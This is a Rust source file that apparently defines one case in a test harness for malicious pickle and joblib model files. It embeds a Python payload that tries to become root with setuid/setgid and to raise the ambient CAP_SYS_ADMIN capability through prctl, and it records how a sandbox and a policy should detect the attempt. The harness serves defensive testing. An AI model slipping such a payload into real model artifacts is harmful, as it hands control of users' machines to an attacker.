//! Asking to be somebody else.

use super::*;

/// User, group and capabilities.
pub const ATTACK: Attack = Attack {
    id: "setuid-attempt",
    title: "setuid and capabilities",
    summary: "The loader asks to be root, and to hand the capability that allows nearly everything \
              on to the programs it starts. Where it is already allowed to, the file owns the \
              machine.",
    severity: Severity::High,
    targets: Targets::Python(&[Loader::Pickle, Loader::Joblib]),
    techniques: &[techniques::SETUID_AND_SETGID, techniques::UNSAFE_ML_ARTIFACTS],
    cwe: &[502, 269],
    references: &[
        Reference {
            title: "Python documentation: os.setuid",
            url: "https://docs.python.org/3/library/os.html#os.setuid",
        },
        Reference {
            title: "Linux manual: capabilities(7)",
            url: "https://man7.org/linux/man-pages/man7/capabilities.7.html",
        },
    ],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Happened(EventKind::Privilege, "setuid")],
        policy: &[Evidence { kind: EventKind::Privilege, text: "setuid" }],
    },
    quick: false,
};

/// PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN.
const PROGRAM: &str = "import os
for change in (os.setgid, os.setuid):
    try:
        change(0)
    except OSError:
        pass
libc('prctl', 47, 2, 21, 0, 0)
";

fn build(_: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    payload::program(ATTACK.id, target, &[payload::LIBC, PROGRAM].concat())
}
